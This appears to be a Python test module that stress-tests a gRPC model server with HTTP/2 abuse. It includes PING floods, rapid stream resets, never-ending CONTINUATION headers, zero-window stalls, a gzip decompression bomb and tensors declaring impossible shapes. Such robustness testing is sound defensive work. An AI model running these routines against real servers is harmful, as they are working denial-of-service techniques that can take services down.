"""Frames of HTTP/2 that a client of gRPC never sends, and requests that cost more than they should."""

import struct
import time
from collections import Counter
from functools import partial

import grpc
import numpy as np

from tests.server import http2
from tests.server.attack_http import count_codes
from tests.server.attack_messages import (
    BOMB_BYTES,
    PREDICT,
    make_declared,
    make_doubled,
    make_films,
    make_gzip_bomb,
    make_png,
)

SECONDS = 10  # for an answer


def flood_frames(victim, opened, *, make, count=1000):
    """Sends frames of one kind over one connection as fast as they go."""
    connection = http2.Connection(victim.port, timeout=2)
    opened.callback(connection.close)
    connection.read(0.2)
    for number in range(count):
        connection.send(make(number))
        if connection.closed:
            break
        if not number % 100:
            connection.read(0)
    connection.read(0.2)
    return f"{number + 1} frames, connection {'closed' if connection.closed else 'kept'}"


def make_ping(number):
    return http2.make_frame(http2.PING, 0, 0, struct.pack(">Q", number))


def make_reset(number):
    """A call that is taken back at once."""
    stream = 2 * number + 1
    call = http2.make_frame(http2.HEADERS, http2.END_HEADERS, stream, http2.make_call(PREDICT))
    return call + http2.make_frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))


def make_continuation(number):
    """A head that never ends."""
    block = http2.make_headers([(f"x-{number}", "b" * 16000)])
    if number == 0:
        return http2.make_frame(http2.HEADERS, 0, 1, http2.make_call(PREDICT))
    return http2.make_frame(http2.CONTINUATION, 0, 1, block)


def close_windows(victim, opened):
    """Fifty requests over a connection that lets the server send no byte of the answers."""
    connection = http2.Connection(victim.port, settings=[(4, 0)], timeout=3)
    opened.callback(connection.close)
    connection.read(0.2)
    request = make_doubled(np.zeros(1000, np.float32))
    for _ in range(50):
        connection.open(PREDICT, token=victim.token, message=request)
        connection.read(0)
    time.sleep(victim.hold)
    connection.read(0)
    return f"50 answers not taken, connection {'closed' if connection.closed else 'kept'}"


def send_grpc(victim, path, request):
    """Calls a method with the bytes of a request: the name of the code of the answer."""
    metadata = [("authorization", f"Bearer {victim.token}")] if victim.token else []
    with victim.connect() as channel:
        try:
            channel.unary_unary(path)(request, timeout=SECONDS, metadata=metadata)
        except grpc.RpcError as error:
            return error.code().name
    return "OK"


def call_model(victim, opened, *, make, times=1, path=PREDICT):
    """Calls a method with the same request, one after the other."""
    request, codes = make(), Counter()
    for _ in range(times):
        codes[send_grpc(victim, path, request)] += 1
    return count_codes(codes)


def send_zipped_message(victim, opened):
    """A message of gRPC that is compressed, and a thousand times as large when it is not."""
    connection = http2.Connection(victim.port, timeout=SECONDS)
    opened.callback(connection.close)
    connection.read(0.2)
    stream = connection.open(PREDICT, token=victim.token, fields=[("grpc-encoding", "gzip")])
    taken = connection.send_data(stream, http2.make_message(make_gzip_bomb(BOMB_BYTES), compressed=True), end=True)
    end = time.monotonic() + SECONDS
    while stream not in connection.ended and not connection.closed and time.monotonic() < end:
        connection.read(0.1)
    refused = stream in connection.ended or connection.closed
    return f"{'taken' if taken else 'not taken whole'}, {'answered' if refused else 'no answer'}"


def ask_and_leave(victim, opened, *, make, count):
    """Asks over connections that are closed as soon as the request is sent, and then asks once and waits."""
    request = make()
    for _ in range(count):
        connection = http2.Connection(victim.port, timeout=3)
        connection.read(0.1)
        connection.open(PREDICT, token=victim.token, message=request)
        connection.close()
    start = time.monotonic()
    code = send_grpc(victim, PREDICT, make_films(partial(make_png, 64)))
    return f"a small film afterwards: {code} after {time.monotonic() - start:.1f} s"


def leave_at_once(victim, opened, *, count):
    """Clients that ask and close the connection before they are answered."""
    request = make_doubled(np.zeros(200_000, np.float32))
    for _ in range(count):
        connection = http2.Connection(victim.port, settings=[(4, 0)], timeout=1)
        connection.read(0.02)
        connection.open(PREDICT, token=victim.token, message=request)
        connection.read(0.02)
        connection.close()
    return f"{count} clients left"


def declare_shapes(victim, opened):
    """Tensors that declare more elements than there are numbers for."""
    shapes = [[2**31], [2**16, 2**16], [2**62, 4], [2**40], [-1], [-2, -2], [2**31, 0, 2**31], [1] * 300]
    requests = [make_declared(shape, float_val=[1.0]) for shape in shapes]
    requests += [make_declared(shape) for shape in shapes]
    requests += [make_declared(shape, string_val=[b"x" * 100]) for shape in shapes]
    return count_codes(Counter(send_grpc(victim, PREDICT, request) for request in requests))
